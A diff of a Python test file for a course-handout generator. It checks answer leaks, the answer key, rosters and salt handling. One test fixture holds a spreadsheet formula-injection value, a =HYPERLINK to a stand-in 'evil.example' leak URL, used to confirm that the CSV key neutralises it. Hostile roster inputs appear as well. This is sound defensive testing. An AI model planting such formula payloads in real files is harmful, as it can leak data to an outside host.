@@ -1,8 +1,10 @@
-"""Course mode, part 2: a handout per student, exercises, answer keys, fillable PDFs, grading.
+"""Course mode: a handout per student, both trees, the key, what a student copy holds.
 
-The answer key is checked against an independent numpy re-derivation of each student's
-config; student copies are searched for their answers with real tools (pdftotext, pypdf);
-submissions are filled in with pypdf as a PDF reader would, then graded.
+The shared course (tests/course_fixture.py: a roster and a salt made in the test, four
+students, every exercise kind) is batched once per session. Its student copies are read
+as a student reads them (pdftotext, pypdf, the HTML's text, the figures' text) and
+searched for any printed number that would score; the key and the instructor copies are
+checked against an independent numpy re-derivation of each student's config.
 """
 
 from __future__ import annotations
@@ -14,110 +16,28 @@ import os
 import re
 import shutil
 import subprocess
-import sys
 import tomllib
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
-from pypdf import PdfReader, PdfWriter
+from course_fixture import COURSE, EXERCISES, ROSTER, reportgen, write_course
+from pypdf import PdfReader
 
 from reportgen import cli
-from reportgen.config import ConfigError, ExerciseConfig, StudentConfig, StudentsConfig
-from reportgen.course import grading, students
-from reportgen.render.leaks import find_leaks
-from reportgen.store.results import Answer
+from reportgen.config import ConfigError, StudentConfig, StudentsConfig
+from reportgen.course import students
+from reportgen.render.leaks import readable_markup
 
 pytestmark = pytest.mark.slow
 
-COURSE = """\
-title = "Gradient descent: your own data"
-author = "Lab 3"
-
-[data]
-n = 40
-theta = [4.0, 3.0]
-x_range = [0.0, 2.0]
-noise = 1.0
-
-[surface]
-resolution = 24
-
-[[runs]]
-name = "Batch gradient descent"
-learning_rate = 0.1
-epochs = 8
-init = [0.0, 0.0]
-
-[students]
-roster = "roster.csv"
-salt = "lab-3 secret"
-
-[students.ranges]
-"data.theta" = [[2.0, 6.0], [1.0, 4.0]]
-
-[students.constraints]
-condition_number = [5.0, 30.0]
-no_divergence = true
-
-[[exercises]]
-id = "stable-rate"
-prompt = "Compute the largest stable learning rate 2/λ_max for your data."
-answer = "diagnostics.max_stable_lr"
-tolerance = 0.001
-points = 2
-solution = "λ_max = {{ lambda_max|num(4) }}, so 2/λ_max = {{ answer|num(4) }}."
-
-[[exercises]]
-id = "ols-slope"
-prompt = "Compute the least-squares slope of your data."
-answer = "ols.theta.1"
-tolerance = 0.001
-points = 1
-solution = "lstsq gives the slope {{ answer|num(4) }}."
-"""
-
-ROSTER = """\
-id,name,email
-s001,Ada Lovelace,ada@example.org
-s002,Alan Turing,alan@example.org
-s003,Grace Hopper,grace@example.org
-s004,Katherine Johnson,kj@example.org
-"""
-
 needs_pdftotext = pytest.mark.skipif(not shutil.which("pdftotext"),
                                      reason="poppler-utils not installed; .ci/run installs it")
+FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
 
 
-def reportgen(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "reportgen", *args], check=check,
-                          capture_output=True, text=True, timeout=900, env=os.environ)
-
-
-@pytest.fixture(scope="module")
-def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("course")
-    (folder / "course.toml").write_text(COURSE, encoding="utf-8")
-    (folder / "roster.csv").write_text(ROSTER, encoding="utf-8")
-    return folder / "course.toml"
-
-
-@pytest.fixture(scope="module")
-def student_batch(course: Path) -> Path:
-    out = course.parent / "students"
-    reportgen("batch", str(course), "--out", str(out), "--jobs", "2", "-q")
-    return out
-
-
-@pytest.fixture(scope="module")
-def instructor_batch(course: Path) -> Path:
-    out = course.parent / "instructor"
-    reportgen("batch", str(course), "--audience", "instructor", "--format", "html",
-              "--out", str(out), "-q")
-    return out
-
-
-def variants(batch: Path) -> list[dict]:
+def variants(batch: Path) -> list[dict[str, Any]]:
     return json.loads((batch / "batch.json").read_text())["variants"]
 
 
@@ -125,256 +45,349 @@ def key_rows(batch: Path) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO((batch / "answer-key.csv").read_text())))
 
 
-# ---------------------------------------------------------------- students and their streams
+def student_rows(batch: Path) -> list[dict[str, Any]]:
+    return [row for row in variants(batch) if row["copy"] == "student"]
 
 
-def test_roster_reads_id_and_name_and_ignores_other_columns(tmp_path: Path) -> None:
-    path = tmp_path / "roster.csv"
-    path.write_text("\ufeffID,Name,grade\n a1 , Ann ,3\nb2,,\n", encoding="utf-8")
-    assert students.read_roster(path) == [StudentConfig(id="a1", name="Ann"),
-                                          StudentConfig(id="b2", name="")]
+def pdf_text(path: Path) -> str:
+    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
+                          check=True).stdout
 
 
-@pytest.mark.parametrize(("text", "message"), [
-    ("name\nAnn\n", "expected a header row with the columns id,name"),
-    ("id,name\na1,Ann\na1,Bob\n", "line 3: student id 'a1' appears twice"),
-    ("id,name\n,Ann\n", "line 2: expected a student id"),
-    ("id,name\n", "expected at least one student"),
-    ("id,name\na1,\x1b[2JAnn\n", "line 2: name: Value error, expected text without control "
-                                 "characters, got U+001B at character 1"),
-    ("id,name\na\x001,Ann\n", "line 2: id: Value error, expected text without control "
-                               "characters, got U+0000 at character 2"),
-])
-def test_bad_rosters_name_the_line(tmp_path: Path, text: str, message: str) -> None:
-    path = tmp_path / "roster.csv"
-    path.write_text(text, encoding="utf-8")
-    with pytest.raises(ConfigError, match=re.escape(message)):
-        students.read_roster(path)
+# ---------------------------------------------------------------- an independent reading
 
 
-def test_a_students_stream_depends_on_salt_and_id_only() -> None:
-    settings = StudentsConfig(roster="r.csv", salt="secret",
-                              ranges={"data.noise": (0.5, 2.0)})
-    ann, bob = StudentConfig(id="ann"), StudentConfig(id="bob")
-    assert students.draw(settings, ann, 0) == students.draw(settings, ann, 0)
-    assert students.draw(settings, ann, 0) != students.draw(settings, bob, 0)
-    assert students.draw(settings, ann, 0) != students.draw(settings, ann, 1)  # a redraw
-    other_salt = settings.model_copy(update={"salt": "another"})
-    assert students.draw(settings, ann, 0) != students.draw(other_salt, ann, 0)
-    assert 0.5 <= students.draw(settings, ann, 0)["data.noise"] <= 2.0
+def printed_numbers(text: str) -> list[float]:
+    """Every number a reader sees in ``text`` (the test's own reading: digits not glued to
+    letters, a true or ASCII minus, an optional fraction; thin-space groups joined)."""
+    text = text.replace("\u2009", "").replace("\u202f", "")
+    found = []
+    for match in re.finditer(r"(?<![\w.])([-\u2212]?)(\d+(?:\.\d+)?)(?![\w]|\.\d)", text):
+        found.append(float(match.group(2)) * (-1 if match.group(1) else 1))
+    return found
 
 
-# ---------------------------------------------------------------- the student batch
+def scores(printed: float, answer: float, tolerance: float) -> bool:
+    """Whether typing printed, 1/printed, 2/printed, printed/2, 2 printed, 100 printed or
+    printed/100 would score."""
+    candidates = [printed, printed / 2, 2 * printed, 100 * printed, printed / 100]
+    if printed:
+        candidates += [1 / printed, 2 / printed]
+    return any(abs(c - answer) <= tolerance * abs(answer) for c in candidates)
 
 
-def test_four_students_get_four_different_problems(student_batch: Path) -> None:
-    rows = variants(student_batch)
-    assert [row["student"]["id"] for row in rows] == ["s001", "s002", "s003", "s004"]
-    configs = [tomllib.loads((student_batch / row["id"] / "config.toml").read_text())
-               for row in rows]
-    assert len({config["seed"] for config in configs}) == 4
-    assert len({tuple(config["data"]["theta"]) for config in configs}) == 4
-    for config, row in zip(configs, rows, strict=True):
-        assert config["student"] == {"id": row["student"]["id"], "name": row["student"]["name"]}
-        assert "salt" not in json.dumps(config) and "lab-3 secret" not in json.dumps(config)
-        assert row["redraws"] >= 0
+def readable(folder: Path) -> dict[str, str]:
+    """Everything a student reads in their folder, by place."""
+    places = {"pdftotext": pdf_text(folder / "handout.pdf"),
+              "index.html": readable_markup((folder / "index.html").read_text())}
+    for svg in sorted((folder / "figures").glob("*.svg")):
+        places[svg.name] = readable_markup(svg.read_text())
+    reader = PdfReader(folder / "handout.pdf")
+    for name, blobs in reader.attachments.items():
+        places[f"attachment {name}"] = blobs[0].decode()
+    for name, spec in (reader.get_fields() or {}).items():
+        places[f"field {name}"] = " ".join(str(spec.get(k, "")) for k in ("/V", "/DV", "/Opt"))
+    places["metadata"] = " ".join(str(v) for v in (reader.metadata or {}).values())
+    for path in folder.rglob("*"):
+        if path.suffix in (".toml", ".json", ".txt", ".csv"):
+            places[path.name] = path.read_text()
+    return places
 
 
-def _numpy_answers(config: dict) -> dict[str, float]:
-    """2/λ_max and the OLS slope of a student's config, re-derived with numpy alone."""
+# ---------------------------------------------------------------- the trees
+
+
+def test_one_batch_makes_both_trees_handouts_and_the_key(course_batch: Path) -> None:
+    rows = variants(course_batch)
+    names = sorted({row["id"].split("/", 1)[1] for row in rows})
+    assert len(names) == 4 and {"s001", "s002", "s004"} <= set(names)
+    for name in names:
+        student = tomllib.loads((course_batch / "students" / name / "config.toml").read_text())
+        teacher = tomllib.loads((course_batch / "instructor" / name / "config.toml").read_text())
+        assert student["audience"] == "student" and teacher["audience"] == "instructor"
+        assert student["seed"] == teacher["seed"] and student["data"] == teacher["data"]
+        assert (course_batch / "handouts" / f"{name}.pdf").read_bytes() == (
+            course_batch / "students" / name / "handout.pdf").read_bytes()
+    assert sorted(p.name for p in (course_batch / "handouts").iterdir()) == \
+        sorted(f"{name}.pdf" for name in names)
+    assert not list(course_batch.glob("student-*"))
+    assert json.loads((course_batch / "batch.json").read_text())["complete"] is True
+    assert len(key_rows(course_batch)) == 4 * len(EXERCISES)
+
+
+def test_the_student_config_reproduces_the_data_and_holds_no_solution(
+    course_batch: Path,
+) -> None:
+    salt = (course_batch.parent / "course.salt").read_text().strip()
+    for row in student_rows(course_batch):
+        folder = course_batch / row["id"]
+        text = (folder / "config.toml").read_text()
+        attached = PdfReader(folder / "handout.pdf").attachments["config.toml"][0].decode()
+        assert attached == text
+        config = tomllib.loads(text)
+        assert all(exercise["solution"] == "" for exercise in config["exercises"])
+        assert "table shows" not in text and "students" not in config and "salt" not in text
+        assert config["student"]["id"] == row["student"]["id"]
+        assert not (folder / "results.json").exists()
+    for path in course_batch.rglob("*"):
+        if path.is_file() and path.suffix in (".toml", ".json", ".csv", ".html"):
+            assert salt not in path.read_text(errors="replace"), path
+
+
+@needs_pdftotext
+def test_no_student_copy_prints_a_number_that_scores(course_batch: Path) -> None:
+    key = key_rows(course_batch)
+    for row in student_rows(course_batch):
+        sid = row["student"]["id"]
+        numeric = [(float(r["answer"]), float(r["tolerance"])) for r in key
+                   if r["student_id"].removeprefix("'") == sid
+                   and r["exercise_id"] in ("stable-rate", "two-steps")]
+        assert len(numeric) == 2
+        for place, text in readable(course_batch / row["id"]).items():
+            for number in printed_numbers(text):
+                for answer, tolerance in numeric:
+                    assert not scores(number, answer, tolerance), (sid, place, number, answer)
+
+
+@needs_pdftotext
+def test_student_pdfs_extract_as_plain_text(course_batch: Path) -> None:
+    for row in student_rows(course_batch):
+        text = pdf_text(course_batch / row["id"] / "handout.pdf")
+        assert "\ufb01" not in text and "\ufb02" not in text
+        assert "fits" in text or "first" in text
+    assert "PDF is a form" not in (course_batch / "students/s001/index.html").read_text()
+
+
+def test_every_student_pdf_has_one_field_per_exercise(course_batch: Path) -> None:
+    for row in student_rows(course_batch):
+        fields = PdfReader(course_batch / row["id"] / "handout.pdf").get_fields() or {}
+        assert sorted(fields) == sorted(EXERCISES)
+        assert fields["diverges"]["/FT"] == "/Ch"
+        assert [str(o[0]) for o in fields["diverges"]["/Opt"]] == ["", "A", "B", "C", "D"]
+        assert all(not str(spec.get("/V") or "") for spec in fields.values())
+
+
+# ---------------------------------------------------------------- the key, re-derived
+
+
+def rederive(config: dict[str, Any]) -> dict[str, Any]:
+    """Every answer of a student's config with numpy alone (the notebook's stream)."""
     data = config["data"]
     stream = np.random.RandomState(config["seed"])
     low, high = data["x_range"]
     x = low + (high - low) * stream.rand(data["n"], 1)
     y = data["theta"][0] + data["theta"][1] * x + data["noise"] * stream.randn(data["n"], 1)
     design = np.c_[np.ones(data["n"]), x[:, 0]]
-    hessian = 2.0 / data["n"] * design.T @ design
-    slope = np.linalg.lstsq(design, y[:, 0], rcond=None)[0][1]
-    return {"stable-rate": 2.0 / np.linalg.eigvalsh(hessian)[-1], "ols-slope": slope}
+    a, b, n = design.T @ design, design.T @ y[:, 0], data["n"]
+    lmax = np.linalg.eigvalsh(2.0 / n * a)[-1]
+    theta = np.zeros(2)
+    for _ in range(2):
+        theta = theta - 0.05 * 2.0 / n * (a @ theta - b)
+    star = np.linalg.lstsq(design, y[:, 0], rcond=None)[0]
+    floor = float(np.mean((design @ star - y[:, 0]) ** 2))
+    t, k = np.zeros(2), 0
+    while np.mean((design @ t - y[:, 0]) ** 2) > 1.01 * floor:
+        t, k = t - 0.3 * 2.0 / n * (a @ t - b), k + 1
+    options = [0.05, 0.2, 0.35, 0.7]
+    letter = "ABCD"[next(i for i, rate in enumerate(options) if rate > 2.0 / lmax)]
+    return {"stable-rate": 2.0 / lmax, "two-steps": theta[1], "reach": k, "diverges": letter}
 
 
-def test_answer_key_matches_a_numpy_rederivation(student_batch: Path) -> None:
-    rows = key_rows(student_batch)
-    assert len(rows) == 8
-    for row in variants(student_batch):
-        config = tomllib.loads((student_batch / row["id"] / "config.toml").read_text())
-        expected = _numpy_answers(config)
-        mine = {r["exercise_id"]: r for r in rows if r["student_id"] == row["student"]["id"]}
-        for exercise_id, value in expected.items():
-            assert float(mine[exercise_id]["answer"]) == pytest.approx(value, rel=1e-12)
-        assert mine["stable-rate"]["points"] == "2" and mine["ols-slope"]["tolerance"] == "0.001"
+def test_the_key_and_instructor_copies_match_a_numpy_rederivation(course_batch: Path) -> None:
+    key = {(r["student_id"], r["exercise_id"]): r for r in key_rows(course_batch)}
+    for row in student_rows(course_batch):
+        sid = row["student"]["id"]
+        written = sid if not sid.startswith("=") else "'" + sid
+        config = tomllib.loads((course_batch / row["id"] / "config.toml").read_text())
+        want = rederive(config)
+        mine = {e: key[(written, e)]["answer"] for e in EXERCISES}
+        assert float(mine["stable-rate"]) == pytest.approx(want["stable-rate"], rel=1e-10)
+        assert float(mine["two-steps"]) == pytest.approx(want["two-steps"], rel=1e-10)
+        assert mine["reach"] == str(want["reach"]) and mine["diverges"] == want["diverges"]
+        html = (course_batch / "instructor" / row["id"].split("/", 1)[1] / "index.html")
+        text = readable_markup(html.read_text())
+        assert f"{want['stable-rate']:.4f}" in text and "Solution." in text
+        assert "<input" not in html.read_text() and "Work from" in text
 
 
-@needs_pdftotext
-def test_no_student_copy_holds_its_answers_anywhere(student_batch: Path) -> None:
-    key = key_rows(student_batch)
-    for row in variants(student_batch):
-        folder = student_batch / row["id"]
-        answers = [float(r["answer"]) for r in key if r["student_id"] == row["student"]["id"]]
-        spelled = {f"{a:.{d}f}" for a in answers for d in (3, 4, 6)} | {repr(a) for a in answers}
-        assert not (folder / "results.json").exists() and not (folder / "surface.npy").exists()
-        texts = {p.relative_to(folder).as_posix(): p.read_bytes().decode("latin-1")
-                 for p in folder.rglob("*") if p.is_file()}
-        texts["pdftotext"] = subprocess.run(
-            ["pdftotext", str(folder / "handout.pdf"), "-"], capture_output=True, text=True,
-            check=True).stdout
-        reader = PdfReader(folder / "handout.pdf")
-        assert sorted(reader.attachments) == ["config.toml", "manifest.json"]
-        for name, blobs in reader.attachments.items():
-            texts[f"attachment {name}"] = blobs[0].decode("utf-8")
-        for place, text in texts.items():
-            for spelling in spelled:
-                assert not re.search(rf"(?<![\d.]){re.escape(spelling)}(?!\d)", text), \
-                    (row["id"], place, spelling)
+def test_the_key_neutralises_a_formula_id_and_keeps_numbers_numbers(course_batch: Path) -> None:
+    text = (course_batch / "answer-key.csv").read_text()
+    for line in csv.reader(io.StringIO(text)):
+        assert not line[0].startswith(("=", "+", "@", "\t", "\r")), line
+        float(line[2]) if line[1] != "diverges" and line[0] != "student_id" else None
+    assert "'" + FORMULA_ID in [row["student_id"] for row in key_rows(course_batch)]
 
 
-def test_every_student_pdf_has_one_field_per_exercise(student_batch: Path) -> None:
-    for row in variants(student_batch):
-        fields = PdfReader(student_batch / row["id"] / "handout.pdf").get_fields()
-        assert sorted(fields or {}) == ["ols-slope", "stable-rate"]
+def test_the_course_index_lists_students_copies_and_the_key(course_batch: Path) -> None:
+    html = (course_batch / "index.html").read_text()
+    for name in ("Ada Lovelace", "Alan Turing", "Katherine Johnson"):
+        assert name in html
+    assert 'href="students/s001/handout.pdf"' in html
+    assert 'href="instructor/s001/index.html"' in html and 'href="handouts/s001.pdf"' in html
+    assert "stable-rate: key" in html and "built" in html and "final loss" not in html
 
 
-def test_the_handout_shows_the_students_name_and_id(student_batch: Path) -> None:
-    row = variants(student_batch)[1]
-    html = (student_batch / row["id"] / "index.html").read_text()
-    assert "Alan Turing" in html and "student s002" in html
-    assert 'name="stable-rate"' in html and 'name="ols-slope"' in html
-
-
-def test_the_instructor_copy_has_answers_and_solutions(instructor_batch: Path) -> None:
-    key = {(r["student_id"], r["exercise_id"]): float(r["answer"])
-           for r in key_rows(instructor_batch)}
-    for row in variants(instructor_batch):
-        html = (instructor_batch / row["id"] / "index.html").read_text()
-        assert (instructor_batch / row["id"] / "results.json").is_file()
-        answer = key[(row["student"]["id"], "stable-rate")]
-        assert f"{answer:.4f}" in html and "Solution." in html and "<input" not in html
-
-
-# ---------------------------------------------------------------- grading
-
-
-def fill(source: Path, target: Path, values: dict[str, str]) -> Path:
-    """Type ``values`` into a PDF's fields, as a PDF reader would."""
-    writer = PdfWriter(clone_from=PdfReader(source))
-    for page in writer.pages:
-        if page.get("/Annots"):
-            writer.update_page_form_field_values(page, values, auto_regenerate=False)
-    writer.write(target)
-    return target
-
-
-def test_grading_gives_full_and_zero_marks(student_batch: Path, tmp_path: Path) -> None:
-    key = key_rows(student_batch)
-    rows = variants(student_batch)
-    right = {r["exercise_id"]: r["answer"] for r in key if r["student_id"] == "s001"}
-    good = fill(student_batch / rows[0]["id"] / "handout.pdf", tmp_path / "s001.pdf",
-                {"stable-rate": f"{float(right['stable-rate']):.5f}",
-                 "ols-slope": f"{float(right['ols-slope']):.4f}".replace(".", ",")})
-    bad = fill(student_batch / rows[1]["id"] / "handout.pdf", tmp_path / "s002.pdf",
-               {"stable-rate": "0.9", "ols-slope": "≈ 5"})
-    done = reportgen("grade", str(student_batch), str(good), str(bad))
-    assert "student s001: 3 points" in done.stdout and "student s002: 0 points" in done.stdout
-    grades = list(csv.DictReader(io.StringIO((student_batch / "grades.csv").read_text())))
-    assert grades == [
-        {"student_id": "s001", "stable-rate": "2", "ols-slope": "1", "total": "3"},
-        {"student_id": "s002", "stable-rate": "0", "ols-slope": "0", "total": "0"},
-    ]
-
-
-def replace_attached_config(source: Path, target: Path, edit: dict[str, str]) -> Path:
-    """A copy of a handout PDF whose attached config.toml has been edited in place."""
-    writer = PdfWriter(clone_from=PdfReader(source))
-    names = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
-    for name, spec in zip(names[::2], names[1::2], strict=True):
-        if name == "config.toml":
-            stream = spec.get_object()["/EF"]["/F"].get_object()
-            text = stream.get_data().decode()
-            for old, new in edit.items():
-                assert old in text
-                text = text.replace(old, new)
-            stream.set_data(text.encode())
-    writer.write(target)
-    return target
-
-
-def test_altered_unknown_and_foreign_submissions_are_reported(
-    student_batch: Path, tmp_path: Path
-) -> None:
-    original = student_batch / variants(student_batch)[2]["id"] / "handout.pdf"
-    config = PdfReader(original).attachments["config.toml"][0].decode()
-    seed = re.search(r"^seed = (\d+)$", config, flags=re.M).group(1)  # type: ignore[union-attr]
-    altered = replace_attached_config(original, tmp_path / "altered.pdf",
-                                      {f"seed = {seed}": f"seed = {int(seed) + 1}"})
-    unknown = replace_attached_config(original, tmp_path / "unknown.pdf",
-                                      {'id = "s003"': 'id = "x999"'})
-    deep = replace_attached_config(original, tmp_path / "deep.pdf",  # was a RecursionError
-                                   {f"seed = {seed}": "seed = " + "[" * 50_000 + "]" * 50_000})
-    twice = tmp_path / "twice.pdf"
-    writer = PdfWriter(clone_from=PdfReader(original))
-    writer.add_attachment("config.toml", config.encode())
-    writer.write(twice)
-    foreign = tmp_path / "foreign.pdf"
-    foreign.write_bytes(b"%PDF-1.4 not really")
-    done = reportgen("grade", str(student_batch), str(altered), str(unknown), str(deep),
-                     str(twice), str(foreign), check=False)
-    assert done.returncode == 1
-    assert "altered.pdf: NOT SCORED: its config differs from the one built for student 's003'" \
-        in done.stdout
-    assert "unknown.pdf: NOT SCORED: student 'x999' is not in this batch" in done.stdout
-    assert "deep.pdf: NOT SCORED: its attached config is unreadable (config.toml: " \
-        in done.stdout
-    assert "twice.pdf: NOT SCORED: carries 2 config.toml attachments" in done.stdout
-    assert "foreign.pdf: NOT SCORED: not a readable PDF" in done.stdout
-    assert "graded 0 of 5" in done.stdout
-
-
-@pytest.mark.parametrize(("typed", "value"), [
-    ("0.48", 0.48), (" 0,48 ", 0.48), ("≈0.5", 0.5), ("~ 0.5", 0.5), ("= -1.5", -1.5),
-    ("\u22121.5", -1.5), ("4.8e-1", 0.48), ("4.8 \u00d7 10^-1", 0.48), ("1,234.5", 1234.5),
-    ("1 234,5", 1234.5), ("about 2", 2.0), (".5", 0.5),
-    ("", None), ("abc", None), ("0.4.8", None), ("1/2", None), ("nan", None), ("inf", None),
-    ("0,4,8", None),
-])
-def test_answers_are_read_by_documented_rules(typed: str, value: float | None) -> None:
-    assert grading.parse_answer(typed) == value
-
-
-def test_marks_are_within_a_relative_tolerance() -> None:
-    assert grading.within(0.4845, 0.4841, 0.001) and not grading.within(0.4850, 0.4841, 0.001)
-    assert grading.within(0.0005, 0.0, 0.001)
-
-
-# ---------------------------------------------------------------- the leak check
-
-
-def test_a_template_that_prints_an_answer_is_refused(course: Path, tmp_path: Path,
-                                                     capsys: pytest.CaptureFixture[str]) -> None:
-    templates = tmp_path / "templates" / "partials"
-    templates.mkdir(parents=True)
-    (templates / "provenance.html").write_text("<p>2/λ_max is {{ diagnostics.max_stable_lr }}</p>")
-    one = tmp_path / "one.toml"  # a handout with exercises, without the roster: build makes it
-    one.write_text(re.sub(r"\[students\][\s\S]*?(?=\[\[exercises\]\])", "", COURSE))
-    code = cli.main(["build", str(one), "--out", str(tmp_path / "out"), "--format", "html",
-                     "--templates", str(tmp_path / "templates"), "-q"])
-    err = capsys.readouterr().err
-    assert code == 2 and len(err.strip().splitlines()) == 1
-    assert "exercises[0] (stable-rate): its answer appears as" in err
-    assert "in index.html; refusing to write a student copy" in err
-    assert not (tmp_path / "out").exists()
-
-
-def test_find_leaks_names_each_spelling_and_place() -> None:
-    answer = Answer(1, ExerciseConfig(id="a", prompt="p", answer="ols.loss"), 0.48411023)
-    files = {"index.html": b"<p>0.4841</p>", "figures/x.svg": b"<text>10.484</text>",
-             "notes.txt": b"0.484110"}
-    leaks = find_leaks(files, [answer])
-    assert leaks == ["exercises[0] (a): its answer appears as 0.4841 in index.html",
-                     "exercises[0] (a): its answer appears as 0.484110 in notes.txt"]
-
-
-def test_verify_rebuilds_student_copies_from_their_config(student_batch: Path) -> None:
-    done = reportgen("verify", str(student_batch / variants(student_batch)[0]["id"]))
+@pytest.mark.slow
+def test_verify_rebuilds_a_student_copy_from_its_config(course_batch: Path) -> None:
+    done = reportgen("verify", str(course_batch / "students" / "s001"))
     assert "reproduced" in done.stdout and "NOT" not in done.stdout
-    assert "no numbers (a student copy carries no results" in done.stdout
+    assert "its numbers through a rebuild (a student copy carries no results.json" in \
+        done.stdout
     assert "with a rebuild (index.html and handout.pdf included)" in done.stdout
+
+
+# ---------------------------------------------------------------- rosters
+
+
+def roster_at(tmp_path: Path, text: str | bytes) -> Path:
+    path = tmp_path / "roster.csv"
+    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
+    return path
+
+
+def test_roster_reads_id_and_name_nfc_and_ignores_other_columns(tmp_path: Path) -> None:
+    path = roster_at(tmp_path, "\ufeffID,Name,grade\n a1 , Ann ,3\nb2,,\ne\u03011,Zo\u0308e,\n")
+    assert students.read_roster(path) == [StudentConfig(id="a1", name="Ann"),
+                                          StudentConfig(id="b2", name=""),
+                                          StudentConfig(id="\u00e91", name="Z\u00f6e")]
+
+
+@pytest.mark.parametrize(("text", "message"), [
+    ("name\nAnn\n", "expected a header row with the columns id,name"),
+    ("id,name\na1,Ann\na1,Bob\n", "line 3: student id 'a1' appears twice"),
+    ("id,name\n\u00e91,Ann\ne\u03011,Bob\n", "line 3: student id 'é1' appears twice"),
+    ("id,name\ns001,Ann\nS001,Bob\n", "line 3: student id 'S001' looks like 's001' on line 2"),
+    ("id,name\ns001,Ann\ns001\u200b,Bob\n", "line 3: id: expected visible text, got U+200B"),
+    ("id,name\ns\u202e01,Ann\n", "line 2: id: expected visible text, got U+202E"),
+    ("id,name\n,Ann\n", "line 2: expected a student id"),
+    ("id,name\n", "expected at least one student"),
+    ("id,name\na1,\x1b[2JAnn\n", "line 2: name: expected visible text, got U+001B"),
+    ("id,name\na1," + "x" * 140_000 + "\n", "line 2: field larger than field limit"),
+])
+def test_bad_rosters_are_one_line_naming_the_line(tmp_path: Path, text: str,
+                                                  message: str) -> None:
+    with pytest.raises(ConfigError, match=re.escape(message)):
+        students.read_roster(roster_at(tmp_path, text))
+
+
+def test_a_roster_that_is_not_a_file_is_refused_unread(tmp_path: Path) -> None:
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    with pytest.raises(ConfigError, match="is a named pipe"):
+        students.read_roster(fifo)
+    zero = tmp_path / "zero.csv"
+    zero.symlink_to("/dev/zero")
+    with pytest.raises(ConfigError, match="is a character device"):
+        students.read_roster(zero)
+
+
+# ---------------------------------------------------------------- the salt
+
+
+def settings(**values: Any) -> StudentsConfig:
+    return StudentsConfig(roster="r.csv", **values)
+
+
+def test_a_students_stream_depends_on_salt_and_id_only() -> None:
+    spec = settings(ranges={"data.noise": (0.5, 2.0)})
+    ann, bob = StudentConfig(id="ann"), StudentConfig(id="bob")
+    salt = "a" * 32
+    assert students.draw(spec, ann, 0, salt) == students.draw(spec, ann, 0, salt)
+    assert students.draw(spec, ann, 0, salt) != students.draw(spec, bob, 0, salt)
+    assert students.draw(spec, ann, 0, salt) != students.draw(spec, ann, 1, salt)
+    assert students.draw(spec, ann, 0, salt) != students.draw(spec, ann, 0, "b" * 32)
+
+
+def test_the_salt_comes_from_its_file_or_the_environment(tmp_path: Path) -> None:
+    (tmp_path / ".salt").write_text("  " + "c" * 40 + "\n")
+    assert students.read_salt(settings(salt_file=".salt"), tmp_path, {}) == "c" * 40
+    assert students.read_salt(settings(), tmp_path, {"REPORTGEN_SALT": "d" * 20}) == "d" * 20
+    for values, environ, message in [
+        ({}, {}, "students.salt_file: expected a file with the course's secret salt"),
+        ({"salt_file": "nope"}, {}, "students.salt_file: no such file"),
+        ({"salt_file": ".salt"}, {"REPORTGEN_SALT": "e" * 40}, "is set too, to another salt"),
+        ({}, {"REPORTGEN_SALT": "short"}, "expected a salt of at least 16 characters"),
+    ]:
+        with pytest.raises(ConfigError, match=re.escape(message)):
+            students.read_salt(settings(**values), tmp_path, environ)
+
+
+def test_a_salt_printed_in_an_example_or_the_docs_is_refused(tmp_path: Path) -> None:
+    published = students.published_texts()
+    assert any(p.name == "README.md" for p in published)
+    guide = next(p for p in published if p.name == "per-student.md").read_text()
+    example = re.search(r"REPORTGEN_SALT=\"?([^\"\s]+)", guide)
+    assert example is not None, "the guide shows no example salt to refuse"
+    with pytest.raises(ConfigError, match="printed in reportgen's examples or docs"):
+        students.read_salt(settings(), tmp_path, {"REPORTGEN_SALT": example.group(1)})
+
+
+def test_a_config_with_an_inline_salt_is_refused_with_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str],
+) -> None:
+    config = write_course(tmp_path)
+    config.write_text(COURSE.replace('salt_file = "course.salt"', 'salt = "lab-3 secret"'))
+    code = cli.main(["batch", str(config), "--out", str(tmp_path / "out"), "-q"])
+    err = capsys.readouterr().err.strip().splitlines()
+    assert code == 2 and len(err) == 1
+    assert "students.salt: the salt no longer lives in the config" in err[0]
+    assert "students.salt_file" in err[0] and "$REPORTGEN_SALT" in err[0]
+
+
+def test_batch_refuses_audience(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code = cli.main(["batch", str(write_course(tmp_path)), "--audience", "instructor", "-q"])
+    assert code == 2 and "--audience: a batch makes every copy" in capsys.readouterr().err
+
+
+def test_init_starts_a_course_with_a_secret_ignored_salt(tmp_path: Path) -> None:
+    assert cli.main(["init", str(tmp_path / "lab"), "--from", "lab-course"]) == 0
+    salt = (tmp_path / "lab" / ".salt").read_text().strip()
+    assert len(salt) == 64 and int(salt, 16) >= 0
+    assert ".salt" in (tmp_path / "lab" / ".gitignore").read_text().splitlines()
+    config = tomllib.loads((tmp_path / "lab" / "lab-course.toml").read_text())
+    assert config["students"]["salt_file"] == ".salt" and "salt" not in config["students"]
+    assert (tmp_path / "lab" / ".salt").stat().st_mode & 0o077 == 0
+    assert ROSTER.splitlines()[0] == "id,name,email"
+
+
+def test_verify_reads_a_course_batchs_two_trees(tmp_path: Path) -> None:
+    from reportgen import verification
+
+    def listed(*ids: str) -> list[Path] | None:
+        rows = [{"id": name} for name in ids]
+        (tmp_path / "batch.json").write_text(json.dumps({"schema": "reportgen.batch/1",
+                                                         "variants": rows}))
+        return verification.batch_variants(tmp_path)
+
+    assert listed("students/s001", "instructor/s001") == [tmp_path / "students/s001",
+                                                         tmp_path / "instructor/s001"]
+    for bad in ("students/../x", "../x", "other/s001", "students/a/b"):
+        with pytest.raises(ConfigError, match="names a variant outside the batch folder"):
+            listed(bad)
+
+
+def test_an_exercise_no_copy_can_keep_secret_stops_the_batch_before_drawing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str],
+) -> None:
+    config = write_course(tmp_path)
+    config.write_text(COURSE.replace('answer = "diagnostics.max_stable_lr"',
